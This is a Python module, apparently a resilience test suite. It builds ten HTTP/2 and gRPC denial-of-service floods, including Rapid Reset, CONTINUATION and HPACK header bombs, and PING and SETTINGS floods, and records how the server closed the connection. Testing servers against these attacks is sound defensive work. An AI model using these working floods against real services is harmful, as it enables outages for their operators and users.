"""Floods on one HTTP/2 connection: much work for the server out of few bytes. Each sends until it has
sent all or the server has closed the connection, and tells how that ended."""

from support.frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
                            RST_STREAM, SETTINGS, connect, frame, goaway_code, grpc_head, head,
                            literal, read_to_end, setting)


def flood(address, pieces):
    """Sends the pieces; {"sent": bytes, "cut": whether the server closed, "goaway": its code}."""
    connection = connect(address)
    sent = 0
    try:
        for piece in pieces:
            connection.sendall(piece)
            sent += len(piece)
    except OSError:
        pass
    connection.settimeout(3)
    data = read_to_end(connection)
    connection.close()
    return {"sent": sent, "goaway": goaway_code(data)}


def header_flood(http, _grpc, mebibytes=32):
    """One header list of 32 MiB."""
    field = literal(b"x-flood", b"v" * 16000)
    pieces = [frame(HEADERS, END_STREAM, 1, head("GET", "/healthz"))]
    pieces += [frame(CONTINUATION, 0, 1, field)] * (mebibytes * 65)
    return flood(http, pieces)


def header_flood_grpc(_http, grpc):
    field = literal(b"x-flood", b"v" * 16000)
    return flood(grpc, [frame(HEADERS, 0, 1, grpc_head())]
                 + [frame(CONTINUATION, 0, 1, field)] * (32 * 65))


def indexed_header_flood(http, _grpc):
    """A field that is put into the table once and then named by one byte each: 4 KiB out of 1 byte."""
    enter = b"\x40" + literal(b"x-bomb", b"v" * 3900)[1:]
    return flood(http, [frame(HEADERS, END_STREAM, 1, head("GET", "/healthz") + enter)]
                 + [frame(CONTINUATION, 0, 1, b"\xbe" * 16000)] * 500)


def rapid_resets(_http, grpc, count=100_000):
    """Opens and resets; each stream costs the server its set-up."""
    def pieces():
        block = grpc_head()
        batch = b""
        for number in range(count):
            stream = 2 * number + 1
            batch += (frame(HEADERS, END_HEADERS, stream, block)
                      + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
            if len(batch) > 60_000:
                yield batch
                batch = b""
        yield batch
    return flood(grpc, pieces())


def continuation_flood(http, _grpc):
    """A header block that never ends, of frames that hold nothing."""
    return flood(http, [frame(HEADERS, 0, 1, head("GET", "/healthz"))]
                 + [frame(CONTINUATION, 0, 1) * 5000] * 100)


def ping_flood(http, _grpc):
    return flood(http, [frame(PING, 0, 0, b"12345678") * 3000] * 100)


def settings_flood(http, _grpc):
    return flood(http, [frame(SETTINGS, 0, 0, setting(4, 65535)) * 3000] * 100)


def settings_ack_flood(http, _grpc):
    return flood(http, [frame(SETTINGS, ACK) * 3000] * 100)


def empty_data_flood(_http, grpc):
    return flood(grpc, [frame(HEADERS, END_HEADERS, 1, grpc_head())]
                 + [frame(DATA, 0, 1) * 5000] * 100)


def empty_message_flood(_http, grpc):
    """Single bytes of a gRPC message in frames of their own, on a connection's whole window."""
    return flood(grpc, [frame(HEADERS, END_HEADERS, 1, grpc_head())]
                 + [frame(DATA, 0, 1, b"\0") * 1000] * 60)


FLOODS = {one.__name__: one for one in (
    header_flood, header_flood_grpc, indexed_header_flood, rapid_resets, continuation_flood,
    ping_flood, settings_flood, settings_ack_flood, empty_data_flood, empty_message_flood)}
